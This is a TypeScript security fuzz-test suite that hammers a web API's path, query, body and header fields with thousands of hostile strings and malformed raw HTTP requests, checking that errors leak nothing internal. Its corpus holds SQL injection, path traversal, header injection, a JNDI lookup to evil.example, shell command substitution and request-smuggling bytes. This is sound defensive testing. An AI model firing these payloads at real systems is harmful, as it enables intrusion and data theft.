import { once } from "node:events";
import { connect } from "node:net";
import { openTestApi, type TestApi, type TestPerson } from "@crew/testing/open-test-api";
import { seedWorkspace } from "@crew/testing/seed-workspace";
import fc from "fast-check";
import { afterAll, beforeAll, expect, test } from "vitest";

/** What attackers send where a string is expected, thousands of times; and that no refusal tells what is behind it. */

const SEED = 20_260_101;
const STRINGS = 5_000;
/** Where each string becomes a row's value and a line of the log, as many different ones. */
const KEPT_STRINGS = 1_000;
/** More than the database pool has connections. */
const AT_ONCE = 25;

const CORPUS = [
  "'",
  "' OR '1'='1",
  "'; DROP TABLE runs; --",
  "1); SELECT pg_sleep(10); --",
  "') UNION SELECT password FROM accounts --",
  "$1",
  "$$",
  "E'\\x27'",
  "\u02bc OR 1=1",
  "\ufffd'",
  "\\",
  "%",
  "_",
  "%00",
  "\u0000",
  "\ud800",
  "\udfff\ud800",
  "../../../../etc/passwd",
  "..\\..\\..\\windows\\win.ini",
  "%2e%2e%2f%2e%2e%2f",
  "..%c0%af..%c0%af",
  "%252e%252e%252f",
  "/etc/passwd\u0000.txt",
  "file:///etc/passwd",
  "a\r\nSet-Cookie: session=1",
  "a\nLocation: https://evil.example",
  "a%0d%0aX-Injected: 1",
  "\u2028X-Injected: 1",
  "嘍嘊X-Injected: 1",
  "__proto__",
  "constructor.prototype",
  "toString",
  "{{7*7}}",
  "$" + "{7*7}",
  "<%= 7*7 %>",
  "<script>alert(1)</script>",
  "javascript:alert(1)",
  "$" + "{jndi:ldap://evil.example/a}",
  "$(id)",
  "`id`",
  "|| id",
  "() { :;}; id",
  "NaN",
  "undefined",
  "null",
  "-1",
  "9".repeat(400),
  "a".repeat(5_000),
  "\u202eright to left",
  "🦉".repeat(100),
  "é".normalize("NFD").repeat(50),
];

const hostile = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...CORPUS) },
  {
    weight: 2,
    arbitrary: fc.tuple(fc.string({ unit: "binary", maxLength: 20 }), fc.constantFrom(...CORPUS)).map(([text, word]) => text + word),
  },
  { weight: 2, arbitrary: fc.tuple(fc.constantFrom(...CORPUS), fc.constantFrom(...CORPUS)).map(([a, b]) => a + b) },
  { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength: 100 }) },
  // Halves of surrogate pairs and control characters, which no string of characters has.
  { weight: 1, arbitrary: fc.array(fc.integer({ min: 0, max: 0xffff }), { maxLength: 40 }).map((units) => String.fromCharCode(...units)) },
);

/** Of what stands behind the API. Of the request's own words there is nothing in a refusal either. */
const INSIDE =
  /node_modules|\.[cm]?[jt]s:\d|\bat [\w.<>]+ \(|\b(SELECT|INSERT INTO|UPDATE \w+ SET|DELETE FROM|relation "|column "|syntax error at|duplicate key|violates)\b|PostgreSQL|Fastify|node:internal|\/work\/|\/home\/|\/usr\/|ECONN|\b\d+\.\d+\.\d+\b/;

let api: TestApi;
let ada: TestPerson;
let ids: Record<string, string>;
beforeAll(async () => {
  api = await openTestApi();
  ada = await api.person();
  ids = await seedWorkspace(api, ada);
}, 60_000);
afterAll(() => api[Symbol.asyncDispose]());

type Answer = Awaited<ReturnType<TestApi["call"]>>;

function expectRefusalTellsNothing(answer: Answer, what: string): void {
  expect(answer.status, `${what}: ${answer.text}`).toBeLessThan(500);
  for (const name of ["set-cookie", "x-injected", "location", "server", "x-powered-by"])
    if (answer.status >= 400) expect(answer.headers[name], what).toBeUndefined();
  if (answer.status < 400) return;
  expect(answer.headers["content-type"], what).toMatch(/^application\/problem\+json/);
  // An issue's place is the sender's own word.
  const said = { ...answer.json, issues: answer.json.issues?.map(({ message }: { message: string }) => message) };
  expect(JSON.stringify(said), what).not.toMatch(INSIDE);
  expect(Object.keys(answer.json).toSorted(), what).toEqual(
    expect.arrayContaining(["code", "detail", "requestId", "status", "title", "type"]),
  );
}

/** Sends each text by `send`, many at once. A request that cannot even be written down is none. */
async function sendAll(texts: string[], send: (text: string) => Promise<Answer>): Promise<Map<number, number>> {
  const seen = new Map<number, number>();
  for (let at = 0; at < texts.length; at += AT_ONCE)
    await Promise.all(
      texts.slice(at, at + AT_ONCE).map(async (text) => {
        const answer = await send(text);
        expectRefusalTellsNothing(answer, JSON.stringify(text).slice(0, 200));
        seen.set(answer.status, (seen.get(answer.status) ?? 0) + 1);
      }),
    );
  return seen;
}

const samples = (count = STRINGS) => fc.sample(hostile, { numRuns: count, seed: SEED });
/** Only what HTTP lets stand in a header: what it does not is refused before there is a request. */
const forHeader = (text: string) => text.replace(/[^\t\x20-\x7e\x80-\xff]/g, "").trim();
const total = (seen: Map<number, number>) => [...seen.values()].reduce((sum, count) => sum + count, 0);

/** Each kind of field that takes a string, with one of its kind that does the most with it. */
const FIELDS: Record<string, (text: string) => Promise<Answer>> = {
  "an id in a path": (text) => api.call("GET", `/v1/crews/${encodeURIComponent(text.toWellFormed())}`, { as: ada }),
  "a raw path": (text) => api.call("GET", `/v1/runs/${encodeURI(text.toWellFormed()).replace(/[?#]/g, "")}`, { as: ada }),
  "a cursor": (text) => api.call("GET", `/v1/runs?cursor=${encodeURIComponent(text.toWellFormed())}`, { as: ada }),
  "a filter": (text) => api.call("GET", `/v1/audit-events?action=${encodeURIComponent(text.toWellFormed())}`, { as: ada }),
  "an unknown query": (text) => api.call("GET", `/v1/crews?${encodeURIComponent(text.toWellFormed())}=1`, { as: ada }),
  "a text that is kept": (title) => api.call("PATCH", `/v1/conversations/${ids.conversationId}`, { as: ada, body: { title } }),
  "a name that must be unique": (name) =>
    api.call("PATCH", `/v1/roles/${ids.roleId}`, { as: ada, body: { name, description: name, permissions: [] } }),
  "an id in a body": (crewId) => api.call("POST", "/v1/runs/cancel-all", { as: ada, body: { crewId } }),
  "an e-mail address": (email) => api.call("POST", "/v1/invitations", { as: ada, body: { email, role: "viewer" } }),
  "an address on the net": (baseUrl) =>
    api.call("PATCH", `/v1/model-providers/${ids.providerId}`, { as: ada, body: { baseUrl, models: [] } }),
  "the name of a field": (name) => api.call("POST", "/v1/conversations", { as: ada, body: { [name]: name } }),
  "a body as it is": (body) => api.call("POST", "/v1/conversations", { as: ada, body }),
  "an API key": (text) => api.call("GET", "/v1/me", { headers: { authorization: `Bearer ${forHeader(text)}` } }),
  "a cookie": (text) => api.call("GET", "/v1/me", { headers: { cookie: `${ada.cookie.split("=")[0]}=${forHeader(text)}` } }),
  "an Idempotency-Key": (text) =>
    api.call("POST", "/v1/conversations", { as: ada, body: { title: 7 }, headers: { "idempotency-key": forHeader(text) } }),
  "an If-Match": (text) => api.call("PUT", `/v1/crews/${ids.crewId}`, { as: ada, body: {}, headers: { "if-match": forHeader(text) } }),
  "a workspace's id": (text) => api.call("GET", "/v1/me", { headers: { cookie: ada.cookie, "x-workspace-id": forHeader(text) } }),
  "a Host": (text) => api.call("GET", "/v1/me", { as: ada, headers: { host: forHeader(text) } }),
  "an Origin": (text) => api.call("POST", "/v1/conversations", { as: ada, body: {}, headers: { origin: forHeader(text) } }),
  "an Accept": (text) =>
    api.call("GET", `/v1/runs/${ids.runId}`, { as: ada, headers: { accept: forHeader(text), "accept-language": forHeader(text) } }),
};

const KEPT = ["a text that is kept", "a name that must be unique"];

test.each(Object.keys(FIELDS))(
  "T-32 thousands of hostile strings as %s are answered, and none by a fault [ASVS 1.2.4, 1.3.3, 2.2.1, 16.5.1]",
  { timeout: 60_000 },
  async (kind) => {
    const texts = KEPT.includes(kind) ? [...new Set(samples())].slice(0, KEPT_STRINGS) : samples();
    const seen = await sendAll(texts, FIELDS[kind] as (text: string) => Promise<Answer>);
    expect(total(seen)).toBe(KEPT.includes(kind) ? KEPT_STRINGS : STRINGS);
  },
);

test("T-32 what is kept comes back as it was written, and nothing else has changed [ASVS 1.2.4]", async () => {
  const keepable = samples(1_000).filter(
    (text) => text.trim() !== "" && [...text].length <= 100 && text.isWellFormed() && !text.includes("\u0000"),
  );
  const others = async () =>
    (await api.system.pool.query("SELECT (SELECT count(*) FROM runs)::int AS runs, (SELECT count(*) FROM crews)::int AS crews")).rows;
  const before = await others();
  let kept = 0;
  for (const title of keepable.slice(0, 200)) {
    const { status, json } = await api.call("PATCH", `/v1/conversations/${ids.conversationId}`, { as: ada, body: { title } });
    if (status !== 200) continue;
    kept += 1;
    expect((await api.call("GET", `/v1/conversations/${ids.conversationId}`, { as: ada })).json.title).toBe(json.title);
  }
  expect(kept).toBeGreaterThan(50);
  expect(await others()).toEqual(before);
});

test("T-30 two thousand malformed requests tell no stack, path, SQL or version [ASVS 13.4.2, 16.5.1]", async () => {
  const request = fc.record({
    method: fc.constantFrom("GET", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "HEAD", "PROPFIND"),
    path: fc.oneof(
      fc.constantFrom(
        "/",
        "/v1",
        "/v1/crews",
        `/v1/crews/${ids.crewId}`,
        "/v1/runs/x/events",
        "/api/auth/sign-in/email",
        "/v1/../etc/passwd",
        "/.env",
        "/.git/config",
        "/api/v1/version",
        "/metrics",
        "/debug",
      ),
      fc.webPath({ size: "small" }).map((path) => `/v1${path}`),
      hostile.map((text) => `/${encodeURIComponent(text.toWellFormed())}`),
    ),
    type: fc.constantFrom("application/json", "text/plain", "application/json; charset=utf-16", undefined),
    body: fc.oneof(hostile, fc.json(), fc.constant(undefined)),
    as: fc.boolean(),
  });
  const statuses = new Set<number>();
  const requests = fc.sample(request, { numRuns: 2_600, seed: SEED });
  let refused = 0;
  for (let at = 0; at < requests.length; at += AT_ONCE)
    await Promise.all(
      requests.slice(at, at + AT_ONCE).map(async ({ method, path, type, body, as }) => {
        const answer = await api.call(method, path, {
          ...(as && { as: ada }),
          ...(body !== undefined && { body }),
          headers: { origin: "http://localhost:3000", ...(type && { "content-type": type }) },
        });
        statuses.add(answer.status);
        if (answer.status < 400) return;
        refused += 1;
        if (method === "HEAD") expect(answer.text).toBe("");
        else expectRefusalTellsNothing(answer, `${method} ${path}`);
        for (const value of Object.values(answer.headers)) expect(String(value), `${method} ${path}`).not.toMatch(INSIDE);
      }),
    );
  expect(refused).toBeGreaterThan(2_000);
  expect([...statuses]).toEqual(expect.arrayContaining([400, 401, 404, 415]));
});

test("T-30 bytes that are no request get a short answer without a word of what reads them [ASVS 4.2.1]", async () => {
  await api.api.listen({ host: "127.0.0.1", port: 0 });
  const { port } = api.api.server.address() as { port: number };
  const broken = [
    "nonsense\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "POST /v1/crews HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked, identity\r\n\r\n",
    "GET /v1/me HTTP/1.1\r\nHost: localhost\r\nX: a\u0000b\r\n\r\n",
    "GET /v1/me HTTP/1.1\r\n\r\n",
    `GET /${"a".repeat(20_000)} HTTP/1.1\r\nHost: localhost\r\n\r\n`,
    `GET /v1/me HTTP/1.1\r\nHost: localhost\r\nX: ${"a".repeat(20_000)}\r\n\r\n`,
  ];
  for (const bytes of broken) {
    const socket = connect(port, "127.0.0.1");
    let text = "";
    socket.on("data", (data) => {
      text += data;
      socket.end();
    });
    socket.on("error", () => {});
    socket.write(bytes);
    await once(socket, "close");
    expect(text, bytes.slice(0, 60)).toMatch(/^HTTP\/1\.1 (400|403|414|431)/);
    expect(text.replace("HTTP/1.1", ""), bytes.slice(0, 60)).not.toMatch(INSIDE);
  }
});
